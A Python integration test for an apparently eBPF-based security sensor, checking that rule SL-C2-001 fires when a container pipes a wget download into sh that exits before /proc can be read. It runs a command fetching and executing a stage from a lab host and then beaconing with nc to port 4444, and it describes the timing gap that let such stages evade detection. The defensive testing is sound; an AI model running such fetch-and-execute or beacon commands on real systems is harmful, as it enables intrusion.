"""A stage that is gone before the sensor reads it.

`wget -O- URL | sh` with a one-line stage: sh reads the script, runs it
and exits within milliseconds, before the sensor drains the exec event
and reads /proc/<pid> (its command line and its stdin). Its exec was
judged with no arguments and no stdin: no stage, no SL-C2-001 (review).
The exec event now carries the new program's argv and fd 0's type, read
in the kernel (bpf/exec.bpf.c, offsets from the kernel's BTF)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from emulation.lab import SECOND_IP, SINK_IP

from ..privileged.harness import Docker, SensorProc, SinkNet, cid_of, run_container


def _c2001(d: dict[str, Any], cid: str) -> bool:
    return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == "SL-C2-001" and cid_of(d) == cid


def test_a_piped_stage_that_exits_at_once(base: Path, docker: Docker, net: SinkNet) -> None:
    s = SensorProc(base, docker.sock, name="stagegone")
    s.start()
    try:
        cid = run_container(
            docker, net, f"wget -q -O- http://{SINK_IP}/stage2 | sh; echo hb | nc -w 1 {SECOND_IP} 4444", wait=True
        )
        a = s.wait_for(lambda d: _c2001(d, cid), what="SL-C2-001 for the piped stage", timeout=20)
        ev = a["sluice"]["evidence"]
        assert ev["stage"] == "stdin_pipe", ev
        assert ev["chain"][1]["args"] == ["sh"], ev["chain"][1]
        st = s.status("--json").stdout
        assert "read in the kernel" in st
    finally:
        assert s.stop() == 0, s.stderr_text()
